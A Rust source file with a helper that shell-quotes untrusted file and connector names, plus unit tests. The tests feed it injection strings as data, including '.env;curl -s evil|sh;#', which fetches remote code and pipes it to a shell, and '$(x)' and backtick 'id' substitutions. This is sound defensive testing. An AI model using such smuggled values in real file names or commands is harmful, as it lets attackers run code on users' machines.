//! Quotes untrusted text for commands that people paste into a shell. Pure.
//!
//! The name of a file or a connector must stay one word: it must not start a command or be taken for an option.

use std::os::unix::ffi::OsStrExt;
use std::path::Path;

/// The text as one word, in quotes if it has characters that are special to a shell.
pub fn word(text: &str) -> String {
    let is_plain = |c: char| c.is_ascii_alphanumeric() || "-_./=:@%+,".contains(c);
    if !text.is_empty() && text.chars().all(is_plain) {
        text.to_owned()
    } else {
        String::from_utf8_lossy(&in_quotes(text.as_bytes())).into_owned()
    }
}

/// A path as one word that is not taken for an option.
pub fn path(path: &str) -> String {
    if path.starts_with('-') { word(&format!("./{path}")) } else { word(path) }
}

/// Like [`path`], for a path that may not be UTF-8. Such a path becomes a `$'…'` string with escapes.
pub fn file(file: &Path) -> String {
    match file.to_str() {
        Some(text) => path(text),
        None => {
            let bytes = file.as_os_str().as_bytes();
            format!("$'{}{}'", if bytes.starts_with(b"-") { "./" } else { "" }, bytes.escape_ascii())
        }
    }
}

/// The bytes in single quotes, between which no character is special, not even a newline.
pub fn in_quotes(bytes: &[u8]) -> Vec<u8> {
    let parts: Vec<_> = bytes.split(|byte| *byte == b'\'').collect();
    [b"'", parts.join(&br"'\''"[..]).as_slice(), b"'"].concat()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn words_with_special_characters_are_quoted() {
        for (text, expected) in [
            (".env.local", ".env.local"),
            ("slack/acme-slack", "slack/acme-slack"),
            ("a b", "'a b'"),
            ("it's", r"'it'\''s'"),
            ("", "''"),
            ("$(x)", "'$(x)'"),
            ("~/.env", "'~/.env'"),
            (".env;curl -s evil|sh;#", "'.env;curl -s evil|sh;#'"),
            (".env\nid", "'.env\nid'"),
            (".env`id`", "'.env`id`'"),
            ("é", "'é'"),
        ] {
            assert_eq!(word(text), expected);
            assert_eq!(path(text), expected);
        }
    }

    #[test]
    fn a_path_is_not_an_option() {
        for (text, expected) in [("-R", "./-R"), ("--reference=x y", "'./--reference=x y'"), ("a/-R", "a/-R")] {
            assert_eq!(path(text), expected);
        }
        assert_eq!(word("-x"), "-x");
    }

    #[test]
    fn a_shell_reads_every_byte_of_a_path_unchanged() {
        for bytes in [&b"/a/it's"[..], b"/caf\xe9/it's a \"x\" \\ $(id)", b"-\xff9", "/caf\u{e9}".as_bytes()] {
            let quoted = file(Path::new(std::ffi::OsStr::from_bytes(bytes)));
            let printed = std::process::Command::new("bash").args(["-c", &format!("printf %s {quoted}")]).output();
            let printed = printed.expect("a shell").stdout;
            assert_eq!(printed.strip_prefix(b"./").unwrap_or(&printed), bytes, "{quoted}");
        }
        assert_eq!(file(Path::new("/a b")), "'/a b'");
    }
}
